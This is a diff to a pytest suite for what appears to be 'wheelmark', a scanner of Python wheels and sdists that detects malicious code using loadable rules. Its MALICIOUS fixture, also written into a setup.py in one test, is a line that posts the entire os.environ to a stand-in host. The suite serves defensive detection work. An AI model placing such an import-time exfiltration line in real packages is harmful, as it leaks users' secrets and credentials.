@@ -9,7 +9,7 @@ from pathlib import Path
 
 import pytest
 
-from support.scan import SAMPLES, a_wheel, an_sdist
+from support.scan import PYTHON_RULE, a_rule_folder, a_wheel, an_sdist, the_ruleset
 
 MALICIOUS = {
     "widget/__init__.py": "import os, requests\nrequests.post('https://x.example.invalid', json=dict(os.environ))"
@@ -101,12 +101,106 @@ def test_sarif_is_one_log_of_all_files(folder: Path) -> None:
 
 
 def test_malicious_samples_of_all_rules_are_scanned_in_one_run(tmp_path: Path) -> None:
-    for sample in sorted(SAMPLES.glob("*/malicious/wheel")):
-        files = {
-            path.relative_to(sample).as_posix().removesuffix(".txt"): path.read_bytes()
-            for path in sample.rglob("*.txt")
-        }
-        (tmp_path / f"{sample.parts[-3].replace('-', '_')}-1-py3-none-any.whl").write_bytes(a_wheel(files))
+    for rule in the_ruleset().rules:
+        for number, sample in enumerate(rule.samples.malicious):
+            suffix = "-py3-none-any.whl" if sample.is_wheel else ".tar.gz"
+            (tmp_path / f"{rule.id.replace('-', '_')}-{number}{suffix}").write_bytes(sample.packed())
     lines = [json.loads(line) for line in scan(tmp_path, "--format", "json").stdout.splitlines()]
-    assert len(lines) >= 12
+    assert len(lines) >= 24
     assert all(line["findings"] for line in lines)
+
+
+def test_rules_of_a_folder_count_by_option_and_by_variable(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    (folder / "deletes-1-py3-none-any.whl").write_bytes(a_wheel({"widget/__init__.py": "import os\nos.remove('x')\n"}))
+    rules = a_rule_folder(folder / "our-rules")
+    wheel = folder / "deletes-1-py3-none-any.whl"
+    assert scan(wheel).returncode == 0
+    with_option = scan(wheel, "--rules", rules, "--format", "json")
+    monkeypatch.setenv("WHEELMARK_RULES", str(rules))
+    with_variable = scan(wheel, "--format", "json")
+    for result in (with_option, with_variable):
+        assert result.returncode == 1
+        assert [each["rule"] for each in json.loads(result.stdout)["findings"]] == ["deletes-at-import"]
+
+
+def test_rule_that_cannot_be_loaded_stops_the_scan(folder: Path) -> None:
+    rules = a_rule_folder(folder / "our-rules", broken_py="def (")
+    result = scan(folder, "--rules", rules)
+    assert (result.returncode, result.stdout) == (2, "")
+    assert "broken.py: expected a rule that loads, got SyntaxError" in result.stderr
+
+
+def test_rules_are_listed_with_what_they_are(tmp_path: Path) -> None:
+    text = PYTHON_RULE.replace("version=1,", "version=3, state=RuleState.DISABLED,").replace(
+        "import Act,", "import RuleState, Act,"
+    )
+    rules = a_rule_folder(tmp_path, deletes_at_import_py=text)
+    result = scan("rules", "--rules", rules, "--json")
+    listed = {line["id"]: line for line in map(json.loads, result.stdout.splitlines())}
+    assert set(listed) == {rule.id for rule in the_ruleset().rules} | {"deletes-at-import"}
+    mine = listed["deletes-at-import"]
+    assert (mine["version"], mine["severity"], mine["state"]) == (3, "critical", "disabled")
+    assert mine["tactic"] == "TA0040 Impact"
+    assert mine["origin"].startswith("deletes_at_import.py sha256:")
+    assert listed["secrets-sent"]["origin"] == "built-in"
+    assert "deletes-at-import        3        critical  TA0040 Impact" in scan("rules", "--rules", rules).stdout
+
+
+def test_new_rule_is_written_tested_and_used(tmp_path: Path) -> None:
+    rules = tmp_path / "rules"
+    assert scan("new-rule", "our-own-rule", "--into", rules).returncode == 0
+    result = scan("test-rules", rules)
+    assert (result.returncode, result.stderr) == (0, "")
+    assert "holds   our-own-rule 1 (evaluation; 2 malicious, 2 benign samples)" in result.stdout
+    again = scan("new-rule", "our-own-rule", "--into", rules)
+    assert again.returncode == 2
+    assert "File exists" in again.stderr
+
+
+def test_rule_that_breaks_the_contract_is_told_with_status_1(tmp_path: Path) -> None:
+    text = PYTHON_RULE.replace("if call.context.automatic:", "if True:")
+    result = scan("test-rules", a_rule_folder(tmp_path, deletes_at_import_py=text))
+    assert result.returncode == 1
+    assert "BROKEN  deletes-at-import 1" in result.stdout
+    assert "benign 1: expected no finding, got critical at widget/__init__.py:5" in result.stdout
+
+
+def test_false_alarms_of_a_rule_are_told_by_name(folder: Path) -> None:
+    rules = a_rule_folder(folder / "our-rules")
+    trusted = folder / "trusted"
+    trusted.mkdir()
+    (trusted / "tidy-1-py3-none-any.whl").write_bytes(a_wheel({"tidy.py": "import os\nos.remove('x')\n"}))
+    (trusted / "calm-1-py3-none-any.whl").write_bytes(a_wheel({"calm.py": "VERSION = 1\n"}))
+    result = scan("test-rules", rules, "--against", trusted)
+    assert result.returncode == 0
+    assert "deletes-at-import: 1 findings in 1 distributions" in result.stdout
+    assert "critical tidy-1-py3-none-any.whl  tidy.py:2  os.remove(x)" in result.stdout
+    assert "marker-word: 0 findings in 0 distributions" in result.stdout
+    (trusted / "broken-1-py3-none-any.whl").write_bytes(b"no archive")
+    with_gap = scan("test-rules", rules, "--against", trusted)
+    assert with_gap.returncode == 2
+    assert "not looked at in full: broken-1-py3-none-any.whl" in with_gap.stdout
+
+
+def test_source_tree_is_scanned_as_the_sdist_that_it_would_be(tmp_path: Path) -> None:
+    folder = tmp_path / "widget"
+    (folder / ".git").mkdir(parents=True)
+    (folder / "setup.py").write_text(MALICIOUS["widget/__init__.py"])
+    result = scan("--tree", folder, "--format", "json")
+    assert result.returncode == 1
+    report = json.loads(result.stdout)
+    assert (report["file"], report["verdict"]) == (str(folder), "malicious")
+    assert report["findings"][0]["member"] == "widget-0/setup.py"
+    assert result.stderr == f"wheelmark: {folder}: left out .git\n"
+
+
+def test_nothing_to_scan_is_not_called_clean(tmp_path: Path) -> None:
+    assert scan().returncode == 2
+    missing = scan("--tree", tmp_path / "missing")
+    assert (missing.returncode, missing.stdout) == (2, "")
+
+
+def test_command_word_that_is_also_a_file_says_how_to_scan_it(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    (tmp_path / "rules").mkdir()
+    monkeypatch.chdir(tmp_path)
+    assert "what is called so is scanned as ./rules" in scan("rules").stderr
